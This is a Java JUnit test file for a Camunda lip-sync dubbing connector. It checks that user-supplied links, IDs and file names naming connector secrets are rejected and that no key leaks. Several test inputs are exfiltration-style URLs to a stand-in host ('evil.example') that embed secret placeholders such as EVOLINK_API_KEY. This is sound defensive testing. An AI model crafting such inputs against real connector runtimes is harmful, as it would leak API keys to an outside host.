package io.lipsync.examples;

import static org.assertj.core.api.Assertions.assertThat;

import io.camunda.client.api.response.ProcessInstanceEvent;
import io.camunda.process.test.api.CamundaAssert;
import io.camunda.zeebe.model.bpmn.Bpmn;
import io.camunda.zeebe.model.bpmn.BpmnModelInstance;
import java.nio.file.Files;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The stock runtime replaces names of secrets in whatever people typed. */
class SecretsInDataTest extends ProcessTest {
  private static final String HARMLESS = "https://media.example.com/top-secrets.mp4";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://evil.example/v.mp4?k={{secrets.EVOLINK_API_KEY}}",
        "https://evil.example/v.mp4?k=secrets.DASHSCOPE_API_KEY&v=1"
      })
  void aLinkThatNamesASecretGoesNowhere(String link) {
    deploy(DubbingModel.submitAndWait("dub"));

    ProcessInstanceEvent instance = start("dub", Map.of("video", link, "audio", AUDIO));

    CamundaAssert.assertThat(instance).hasActiveIncidents();
    assertThat(incident(instance))
        .startsWith("video_url names a secret of the connector runtime.")
        .doesNotContain("sk-process-test");
    assertThat(evolink.journal().summary().submits()).isZero();
  }

  @ParameterizedTest
  @ValueSource(strings = {"taskId", "correlationKey"})
  void idsThatNameASecretGoNowhere(String field) {
    deployWithoutPath(
        new LipSyncElements(TestedProvider.EVOLINK)
            .getTask(
                Bpmn.createExecutableProcess("reading").startEvent(), "read", "submission", "task")
            .endEvent()
            .done());
    ProcessInstanceEvent instance =
        start("reading", Map.of("submission", Map.of(field, "{{secrets.JOGGAI_API_KEY}}")));

    CamundaAssert.assertThat(instance).hasActiveIncidents();
    assertThat(incident(instance)).startsWith(field + " names a secret");
    assertThat(evolink.journal().requests()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"fileName", "destination.folder"})
  void aSavedFileIsNotCalledLikeASecret(String field) throws Exception {
    BpmnModelInstance save =
        LipSyncElements.save(
                Bpmn.createExecutableProcess("saving").startEvent(),
                "link",
                Map.of("type", "folder"))
            .zeebeInputExpression("typed", "lipSync." + field)
            .endEvent()
            .done();
    deployWithoutPath(save);

    ProcessInstanceEvent instance =
        start("saving", Map.of("link", VIDEO, "typed", "{{secrets.JOGGAI_API_KEY}}"));

    CamundaAssert.assertThat(instance).hasActiveIncidents();
    assertThat(incident(instance)).startsWith(field + " names a secret");
    try (var files = Files.list(TestStack.resultFolder())) {
      assertThat(files).noneMatch(file -> file.toString().contains("sk-process-test"));
    }
  }

  @Test
  void aLinkThatOnlyLooksLikeItIsDubbed() {
    deploy(DubbingModel.submitAndWait("dub"));

    ProcessInstanceEvent instance = start("dub", Map.of("video", HARMLESS, "audio", AUDIO));

    CamundaAssert.assertThat(instance).isCompleted();
    assertThat(theTask().videoUrl()).isEqualTo(HARMLESS);
  }

  @Test
  void theExamplesHandOverNoNameOfASecret() {
    ExampleProcess.deployTo(client);
    deploy(DubVideoCaller.model());

    ProcessInstanceEvent stolen =
        start(
            DubVideoCaller.ID,
            Map.of("video", "https://evil.example/?k={{secrets.EVOLINK_API_KEY}}"));
    DubVideoCaller.assertFailure(stolen, "INVALID_INPUT", "submit");
    assertThat(evolink.journal().summary().submits()).isZero();

    ProcessInstanceEvent harmless = start(DubVideoCaller.ID, Map.of("video", HARMLESS));
    CamundaAssert.assertThat(harmless).isCompleted().hasCompletedElements("dubbed");
    assertThat(theTask().videoUrl()).isEqualTo("https://media.example.com/top-secrets%2Emp4");
  }

  @Test
  void anApiKeyThatWasNotFilledInIsToldByItsName() {
    deployWithoutPath(
        new LipSyncElements(TestedProvider.EVOLINK)
            .submit(Bpmn.createExecutableProcess("dub").startEvent(), "submit", "submission")
            .zeebeJobRetries("1")
            .zeebeInput("{{secrets.NOBODY_KNOWS}}", "lipSync.connection.apiKey")
            .endEvent()
            .done());

    ProcessInstanceEvent instance = start("dub", Map.of("video", VIDEO, "audio", AUDIO));

    CamundaAssert.assertThat(instance).hasActiveIncidents();
    assertThat(incident(instance))
        .startsWith("The connector runtime did not fill in the secret 'NOBODY_KNOWS'");
    assertThat(evolink.journal().summary().submits()).isZero();
  }

  private String incident(ProcessInstanceEvent instance) {
    return client
        .newIncidentSearchRequest()
        .filter(f -> f.processInstanceKey(instance.getProcessInstanceKey()))
        .send()
        .join()
        .items()
        .getFirst()
        .getErrorMessage();
  }
}
